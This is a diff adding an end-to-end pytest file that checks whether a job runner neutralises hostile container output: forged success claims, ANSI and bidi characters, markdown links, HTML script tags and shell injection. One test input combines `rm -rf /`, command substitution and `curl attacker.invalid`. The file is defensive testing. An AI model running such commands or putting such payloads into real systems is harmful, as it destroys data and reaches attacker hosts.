@@ -1,0 +1,89 @@
+"""Attacks by the image of a run."""
+
+import json
+import unicodedata
+
+import pytest
+
+from tests.e2e.stage import Object, Space, run
+
+FORGED = json.dumps(
+    {"status": "Succeeded", "delivery": "ExactlyOnce", "records": {"total": 9, "completed": 9, "failed": 0}}
+)
+
+
+def texts(value: object) -> list[str]:
+    """Every text in a JSON value."""
+    if isinstance(value, dict):
+        return [text for item in value.values() for text in texts(item)]
+    if isinstance(value, list):
+        return [text for item in value for text in texts(item)]
+    return [value] if isinstance(value, str) else []
+
+
+def is_plain(text: str) -> bool:
+    """One line, without control, format or bidirectional characters."""
+    return not any(unicodedata.category(letter) in ("Cc", "Cf") for letter in text)
+
+
+def everything_about(space: Space, name: str) -> list[str]:
+    """The texts in the status and in the Events of a run."""
+    status: Object = space.status(name)
+    status.pop("contract", None)
+    events = [item["message"] for item in space.items("events") if item["involvedObject"]["name"] == name]
+    return [*texts(status), *events]
+
+
+def test_a_custom_image_cannot_claim_to_have_written_exactly_once(tenant: Space) -> None:
+    tenant.apply(run("claim", "actor", parameters={"say": FORGED}))
+    status = tenant.wait_for("claim", phase="Succeeded", seconds=60)
+    assert status["delivery"] == "Unknown"
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        "\x1b[31mred\x1b[0m\x07",
+        "first\nsecond\r\nthird",
+        "left\u202eright\u2066",
+        "[click](http://attacker.invalid) ![x](http://attacker.invalid/x.png)",
+        "`rm -rf /`; $(touch /tmp/x) && curl attacker.invalid",
+        "<script>alert(1)</script>",
+        "x" * 4000,
+        "\u0000\u0001\u0002",
+    ],
+    ids=["ansi", "lines", "bidi", "markdown", "shell", "html", "long", "control"],
+)
+def test_a_message_of_a_container_is_data(tenant: Space, message: str) -> None:
+    tenant.apply(run("talk", "actor", parameters={"say": message, "exit": "4"}))
+    tenant.wait_for("talk", phase="Failed", seconds=90)
+    found = everything_about(tenant, "talk")
+    assert found
+    for text in found:
+        assert is_plain(text), repr(text)
+        assert len(text) <= 4096
+        assert "](http" not in text
+        assert "<script" not in text
+
+
+@pytest.mark.parametrize("code", ["255", "137", "143", "77"])
+def test_any_exit_code_is_a_failure_with_that_code(tenant: Space, code: str) -> None:
+    tenant.apply(run("exit", "actor", parameters={"exit": code}))
+    status = tenant.wait_for("exit", phase="Failed", seconds=90)
+    assert status["exitCode"] == int(code)
+
+
+def test_a_container_that_ignores_sigterm_ends_at_its_deadline(tenant: Space) -> None:
+    tenant.apply(run("stubborn", "actor", timeoutSeconds=4, parameters={"sleep": "600", "ignore": "yes"}))
+    tenant.wait_for("stubborn", phase="Failed", reason="DeadlineExceeded", seconds=60)
+
+
+def test_a_container_has_no_token_and_no_privileges(tenant: Space) -> None:
+    tenant.apply(run("probe", "actor", parameters={"probe": "yes", "sleep": "3"}))
+    tenant.wait_for("probe", phase="Succeeded", seconds=60)
+    [pod] = tenant.items("pods")
+    seen = json.loads(tenant.kubectl("logs", pod["metadata"]["name"]).splitlines()[0])
+    assert seen["token"] is False
+    assert seen["user"] != 0
+    assert seen["capabilities"] == 0
+    assert seen["new privileges"] is False
